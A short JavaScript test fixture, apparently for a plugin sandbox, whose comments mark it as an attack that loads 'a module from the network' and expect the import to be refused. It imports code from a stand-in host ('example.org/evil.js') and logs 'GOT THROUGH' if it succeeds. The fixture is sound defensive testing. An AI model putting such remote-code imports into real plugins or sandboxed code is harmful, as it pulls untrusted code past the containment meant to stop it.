// attack: a module from the network
// refused: import
export const policy = { api: 1 };

import stolen from 'https://example.org/evil.js';

export function onBegin(ctx) {
  ctx.log('GOT THROUGH ' + stolen);
}
